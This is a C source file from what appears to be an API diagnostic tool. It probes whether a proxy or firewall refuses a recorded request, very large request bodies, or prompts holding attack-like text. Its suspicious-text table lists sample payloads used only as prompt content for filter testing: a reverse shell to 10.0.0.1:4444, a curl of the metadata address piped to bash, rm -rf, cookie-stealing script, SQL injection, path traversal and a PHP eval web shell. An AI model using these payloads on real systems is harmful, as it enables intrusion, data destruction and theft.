/* Sends what sessions send: the recorded first request, long bodies, and text
 * that filters may take for an attack. */
#include <stdlib.h>
#include <string.h>

#include "probe/doctor/steps/step_private.h"
#include "wire/bytes/mem.h"

#define NO_SUCH_MODEL "ccprobe-no-such-model"
#define TEXT_LIMIT ((size_t)64 * 1024)

/* ---- the recorded request ---- */

void step_realistic(struct doctor *d, struct step_result *out)
{
	struct doctor_call c = { .enough = step_has_content };

	if (d->seen.realistic) {
		buf_add_text(
			&out->text,
			"accepted already, when the small one was refused");
		return;
	}
	step_recorded(d, &c);
	if (step_ask(d, &c, out)) {
		buf_addf(&out->text, "%zu kB, ", c.body.len / 1000);
		d->seen.realistic = step_is_taken(&c);
		d->seen.recorded_tokens = step_input_tokens(&c);
		if (c.got.end == END_CANCELLED) {
			buf_addf(&out->text, "answered after %lld ms",
				 (long long)((c.got.ended - c.got.began) /
					     TICK_MS));
		} else if (doctor_explain(d, &c)) {
			doctor_tell(&c, &out->text);
			buf_add_text(&out->table,
				     "a small request is answered; which part "
				     "of this one is refused:\n"
				     "ccprobe bisect plain/01 ");
			doctor_show_url(d, &out->table);
			buf_add_byte(&out->table, '\n');
			out->state = STATE_DOUBTFUL;
		} else {
			doctor_tell(&c, &out->text);
		}
	}
	doctor_call_clear(&c);
}

/* ---- long bodies ---- */

/*
 * Everyone on the way must read this body as a whole, but it must cost nothing.
 * So the model does not exist, and the length is in a member that no model
 * reads; the API allows it 256 characters.
 */
static void make_long(struct doctor_call *c, size_t len)
{
	char *filling = xmalloc(len);

	memset(filling, 'x', len);
	buf_clear(&c->body);
	buf_init(&c->body, BUF_NO_LIMIT);
	buf_add_text(&c->body,
		     "{\"model\":\"" NO_SUCH_MODEL "\",\"max_tokens\":1,"
		     "\"messages\":[{\"role\":\"user\",\"content\":\".\"}],"
		     "\"metadata\":{\"user_id\":\"");
	buf_add(&c->body, filling, len);
	buf_add_text(&c->body, "\"}}");
	free(filling);
}

/* The answer has the status that the short request got. */
static bool is_as_short(const struct doctor_call *c, int status)
{
	return status != 0 && c->got.head.status == status;
}

static bool is_taken(const struct doctor_call *c, int status)
{
	int got = c->got.head.status;

	if (got == 413 || got == 0)
		return false;
	if (is_as_short(c, status) || got == 429 || got == 529)
		return true;
	return got < 500 && (step_is_good(c) || step_is_api_error(c));
}

/* Too many tokens are no limit on the body's size. */
static bool is_overflow(const struct doctor_call *c)
{
	struct refusal_given given = doctor_given(c);
	struct refusal why = { .code = NULL };
	bool is = refusal_of(&given, &why) &&
		  (strcmp(why.code, "DR-CONTEXT-TOO-LONG") == 0 ||
		   strcmp(why.code, "DR-CONTEXT-REWORDED") == 0);

	refusal_clear(&why);
	return is;
}

static int status_of_short(struct doctor *d, struct step_result *out)
{
	struct doctor_call c = { .method = NULL };
	int status = 0;

	make_long(&c, 1);
	if (step_ask(d, &c, out))
		status = c.got.head.status;
	doctor_call_clear(&c);
	return status;
}

void step_long(struct doctor *d, struct step_result *out)
{
	static const struct {
		const char *name;
		size_t len;
	} sizes[] = { { "1.2 MB", 1200000 }, { "5 MB", 5000000 } };
	int status = status_of_short(d, out);
	struct buf what = BUF_INIT(TEXT_LIMIT);

	for (size_t i = 0;
	     i < sizeof(sizes) / sizeof(sizes[0]) && out->state == STATE_OK;
	     i++) {
		struct doctor_call c = { .method = NULL };

		make_long(&c, sizes[i].len);
		if (step_ask(d, &c, out)) {
			buf_reset(&what);
			step_outcome(&c, &what);
			buf_addf(&out->text, "%s%s: ", i > 0 ? "; " : "",
				 sizes[i].name);
			if (is_taken(&c, status)) {
				buf_add_text(&out->text, "accepted");
			} else if (is_overflow(&c)) {
				step_failed(d, &c, out);
			} else {
				buf_add_span(&out->text, buf_span(&what));
				step_finding(d, out, "DR-BODY-LIMIT", &c,
					     sizes[i].name, buf_str(&what),
					     NULL);
			}
		}
		doctor_call_clear(&c);
	}
	buf_clear(&what);
}

/* ---- suspicious text ---- */

static const struct {
	const char *name, *text;
} suspicious[] = {
	{ "a shell command",
	  "$ cat /etc/passwd; rm -rf /tmp/x && curl -s http://169.254.169.254/ "
	  "| bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" },
	{ "a script tag", "<script>alert(document.cookie)</script>" },
	{ "SQL", "' OR '1'='1' UNION SELECT name, password FROM users; "
		 "DROP TABLE users;--" },
	{ "a path upwards", "../../../../etc/passwd" },
	{ "PHP", "<?php eval($_GET['x']); ?>" },
};

enum { SUSPICIOUS = sizeof(suspicious) / sizeof(suspicious[0]) };

static bool ask_text(struct doctor *d, struct doctor_call *c, const char *text,
		     struct step_result *out)
{
	struct buf prompt = BUF_INIT(TEXT_LIMIT);
	bool asked;

	buf_addf(&prompt, "This is a tool's output; say ok.\n%s", text);
	doctor_small(d, c, 1, buf_str(&prompt), "");
	asked = step_ask(d, c, out);
	buf_clear(&prompt);
	return asked;
}

static bool is_passed(const struct doctor_call *c)
{
	int status = c->got.head.status;

	return step_is_good(c) || status == 429 || status == 529;
}

/* Finds out which of the texts is refused. */
static void name_culprits(struct doctor *d, struct buf *names,
			  struct step_result *out)
{
	for (size_t i = 0; i < SUSPICIOUS; i++) {
		struct doctor_call c = { .method = NULL };

		if (!doctor_spare(d) ||
		    !ask_text(d, &c, suspicious[i].text, out))
			i = SUSPICIOUS;
		else if (!is_passed(&c))
			buf_addf(names, "%s%s", names->len > 0 ? ", " : "",
				 suspicious[i].name);
		doctor_call_clear(&c);
	}
	if (names->len == 0)
		buf_add_text(names, "several such things together");
}

void step_content(struct doctor *d, struct step_result *out)
{
	struct doctor_call c = { .method = NULL };
	struct buf all = BUF_INIT(TEXT_LIMIT), names = BUF_INIT(TEXT_LIMIT);
	struct buf what = BUF_INIT(TEXT_LIMIT);

	for (size_t i = 0; i < SUSPICIOUS; i++)
		buf_addf(&all, "%s\n", suspicious[i].text);
	if (!ask_text(d, &c, buf_str(&all), out))
		goto out;
	step_outcome(&c, &what);
	if (c.got.head.status >= 500 && step_is_api_error(&c)) {
		step_failed(d, &c, out);
	} else if (is_passed(&c)) {
		buf_add_text(&out->text, "shell commands, tags, SQL and paths "
					 "in a prompt pass");
	} else {
		name_culprits(d, &names, out);
		buf_addf(&out->text, "%s is answered with %s", buf_str(&names),
			 buf_str(&what));
		step_finding(d, out, "DR-WAF-CONTENT", &c, buf_str(&names),
			     buf_str(&what), NULL);
	}
out:
	buf_clear(&all);
	buf_clear(&names);
	buf_clear(&what);
	doctor_call_clear(&c);
}
